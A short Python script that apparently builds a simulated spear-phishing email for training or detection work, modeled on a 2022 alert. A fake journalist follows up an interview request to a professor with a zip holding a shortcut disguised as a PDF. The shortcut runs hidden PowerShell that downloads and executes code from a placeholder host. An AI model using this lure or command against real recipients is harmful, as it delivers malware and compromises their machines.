"""The second letter of a talk about an interview: now a shortcut in a zip.
Scenario: NPA and NISC, alert of 30 November 2022 (several turns, then a file)."""
from kit import *


def make():
    z = Zip().add("取材依頼書.pdf.lnk", lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -c iwr http://downloads.invalid/a | iex")).bytes()
    return (Mail("Re: 取材のお願い", "kisha.hoshino@gmail.com", name="星野 記者", to=encoded_word("山田 太郎") + " <t.yamada@example.ac.jp>", date="Tue, 18 Oct 2022 10:12:00 +0900", In_Reply_To="<m1@example.ac.jp>", References="<m0@mail.gmail.com> <m1@example.ac.jp>")
            .text("例示大学\n山田 太郎 先生\n\nご返信ありがとうございます。星野です。\n取材依頼書をお送りしますので、ご確認ください。\n")
            .attach("取材依頼書.zip", z, "application/zip").bytes())
